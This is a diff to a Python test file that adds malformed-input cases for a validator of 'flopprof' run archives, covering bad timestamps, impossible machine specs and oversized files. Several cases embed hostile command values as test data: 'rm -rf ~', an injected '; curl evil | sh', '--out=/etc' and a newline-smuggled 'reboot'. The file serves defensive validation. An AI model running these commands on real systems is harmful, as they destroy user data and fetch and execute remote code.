@@ -357,6 +357,76 @@ CONTENT: dict[str, tuple[Change, str]] = {
         change_json("plan.json", "run", "started_at", to="zzzz"),
         "is no scenario of a time in UTC",
     ),
+    "a day that is none": (
+        change_json("plan.json", "run", "started_at", to="2026-13-45T99:99:99+00:00"),
+        "plan.json: '2026-13-45T99:99:99+00:00' is no time",
+    ),
+    "another program's command": (
+        change_json("plan.json", "run", "command", to=["rm", "-rf", "~"]),
+        "its command is not that of a run of flopprof",
+    ),
+    "a command of many": (
+        change_json("plan.json", "run", "command", to=["flopprof", "run", "outer", "; curl evil | sh"]),
+        "its command has '; curl evil | sh', which flopprof does not note",
+    ),
+    "a command that writes elsewhere": (
+        change_json("plan.json", "run", "command", to=["flopprof", "run", "outer", "--out=/etc"]),
+        "its command has '--out=/etc', which flopprof does not note",
+    ),
+    "a command of another kind": (
+        change_json("plan.json", "run", "command", to=["flopprof", "rm", "outer"]),
+        "its command is not that of a run of flopprof",
+    ),
+    "a command without a scenario": (
+        change_json("plan.json", "run", "command", to=["flopprof", "run", "--interleave"]),
+        "its command runs '--interleave', which is no scenario",
+    ),
+    "a command of two lines": (
+        change_json("plan.json", "run", "command", to=["flopprof", "run", "outer\nreboot"]),
+        "which flopprof does not note",
+    ),
+    "no cores": (change_json("machine.json", "cores", to=0), "machine.json: no machine has 0 cores"),
+    "too many cores": (change_json("machine.json", "cores", to=2**40), f"no machine has {2**40} cores"),
+    "negative memory": (
+        change_json("machine.json", "memory_bytes", to=-1),
+        "machine.json: memory_bytes cannot be -1",
+    ),
+    "more memory than there is": (
+        change_json("machine.json", "memory_bytes", to=2**62),
+        f"no machine has {2**62} bytes of memory",
+    ),
+    "more memory than a number holds": (
+        change_json("machine.json", "memory_bytes", to=2**70),
+        "machine.json: memory_bytes cannot be 1.18059e+21",
+    ),
+    "two GPUs in one place": (
+        change_json("machine.json", "gpus", to=[{"ordinal": 0, "name": "x"}, {"ordinal": 0, "name": "y"}]),
+        "its GPUs are not numbered as GPUs are",
+    ),
+    "a GPU of no kind": (
+        change_json("machine.json", "gpus", to=[{"ordinal": 0, "name": "x", "compute_capability": "ninety"}]),
+        "no GPU has the compute capability 'ninety'",
+    ),
+    "a GPU without memory": (
+        change_json("machine.json", "gpus", to=[{"ordinal": 0, "name": "x", "memory_bytes": 0}]),
+        "no GPU has a memory of 0 bytes",
+    ),
+    "a CPU with a novel for a name": (
+        change_json("machine.json", "cpu", to="x" * 5000),
+        "machine.json: cpu is a text of 5000 characters",
+    ),
+    "a load that is no number": (
+        change_json(CONTROL, "steps", 0, "control", "surroundings", to={"load": math.nan}),
+        "steps.0.control.surroundings.load cannot be nan",
+    ),
+    "passes that ended before they began": (
+        change_json(CONTROL, "seconds", to={"traced": -3.0}),
+        "seconds.traced cannot be -3",
+    ),
+    "a record padded to a bomb": (
+        lambda files: files.update({"machine.json": files["machine.json"] + b" " * (2 << 20)}),
+        "its entry 'machine.json' unpacks to",
+    ),
     "no plan": (lambda files: files.__delitem__("plan.json"), "it has no plan.json"),
     "no manifest": (lambda files: files.clear(), "it has no archive.json"),
     "no json": (lambda files: files.update({"plan.json": b"{"}), "plan.json"),
